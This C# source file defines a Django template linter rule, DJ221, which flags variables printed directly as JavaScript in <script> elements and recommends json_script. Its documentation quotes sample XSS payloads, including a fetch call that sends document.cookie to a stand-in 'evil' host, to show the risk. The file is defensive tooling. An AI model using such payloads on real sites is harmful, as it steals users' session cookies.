using DjangoLsp.Analysis.Engine;
using DjangoLsp.Templates.Syntax;

namespace DjangoLsp.Analysis.Rules.Templates;

/// <summary>DJ221: a value printed as JavaScript code (or inside a regex literal or comment) in &lt;script&gt;.</summary>
public sealed class JsCodeOutputRule : TemplateOutputRule
{
    public static readonly RuleDescriptor Rule = TemplateRuleSupport.Xss(
        "DJ221", "js-code-from-template-variable", Severity.Error, new[] { 79, 83 },
        "A template variable is printed as JavaScript code in <script>; use json_script.",
        """
        ## What it does
        Reports `{{ value }}` printed directly as JavaScript code in a `<script>` element (`var x = {{ data }};`,
        `{{ data|safe }}`), and values inside a JavaScript regular expression literal or comment.

        ## Why it matters
        Whatever the value contains becomes program text: `1; fetch('//evil/?'+document.cookie)` runs. HTML
        autoescaping does not help (it leaves `;`, `(`, `)` and line breaks alone) and `|safe` removes even the
        protection against `</script><script>alert('xss')//`. A common mistake is
        `var data = {{ json_string|safe }};` with `json.dumps` in the view: `json.dumps` does not escape `</script>`,
        so a string in the data ends the element. `|escapejs` only works inside a quoted string.

        Django's answer is `json_script`: it writes the value as JSON in a `<script type="application/json">`
        element with `<`, `>` and `&` escaped as `\uXXXX`, so the data can never end the element, and the
        page reads it back with `JSON.parse`.

        ## Example
        ```html
        <script>
          var gallery = {{ gallery|safe }};
        </script>
        ```

        ## Fix
        ```html
        {{ gallery|json_script:"gallery-data" }}
        <script>
          var gallery = JSON.parse(document.getElementById("gallery-data").textContent);
        </script>
        ```
        Pass the Python value (a dict or list) to the template, not a JSON string: `json_script` serialises it.
        The quick fix makes this rewrite; it is not applied by "fix all" when the value had `|safe` (the view
        probably passes JSON text that must become a Python value) or when the `<script>` is split across
        template branches.

        ## Not reported
        Literals, numbers and ids (`pk`, `*_id`), loop counters, booleans (`is_*`, `has_*`) and values through
        filters that give a number (`|length`, `|floatformat`, `|add:1`).

        ## References
        - Django: [json_script](https://docs.djangoproject.com/en/stable/ref/templates/builtins/#json-script)
        - [OWASP XSS Prevention Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html)
        """,
        TemplateRuleSupport.JsonScriptDocs);

    public override RuleDescriptor Descriptor => Rule;

    internal override Finding? Check(TemplateRuleContext context, TemplateOutput output)
    {
        var kind = output.Context.Kind;
        if (kind is not (OutputContextKind.JsCode or OutputContextKind.JsRegex or OutputContextKind.JsComment) || !OutputFacts.NeedsReview(output))
        {
            return null;
        }

        string what = OutputFacts.Display(output);
        if (kind == OutputContextKind.JsRegex)
        {
            return context.Report(Rule, output.Span,
                $"{what} is inside a JavaScript regular expression literal in <script>; no Django filter escapes for that position. Build the RegExp in JavaScript from a value read with json_script.");
        }

        if (kind == OutputContextKind.JsComment)
        {
            return context.Report(Rule, output.Span,
                $"{what} is inside a JavaScript comment in <script>; a line break or */ in the value ends the comment and the rest runs as code. Remove it or move it into an HTML comment.",
                Severity.Warning);
        }

        if (output.Escaping.Encoding == OutputEncoding.JsonScriptElement)
        {
            return context.Report(Rule, output.Span,
                $"{what} prints a whole <script> element (json_script) inside JavaScript code. Put it before the <script> and read it with JSON.parse(document.getElementById(...).textContent).");
        }

        string cause = OutputFacts.UnescapedCause(output) is { } c ? $"{c}; " : "HTML autoescaping does not make it data; ";
        string hint = OutputFacts.HasOwnFilter(output, "escapejs") ? " (|escapejs only works inside a quoted string)" : string.Empty;
        var fix = JsonScriptRewrite.Create(context, output);
        return context.Report(Rule, output.Span,
            $"{what} is JavaScript code in <script>: {cause}whatever it contains runs{hint}. Pass it with |json_script and read it with JSON.parse.",
            null, TemplateFixes.Some(fix));
    }
}
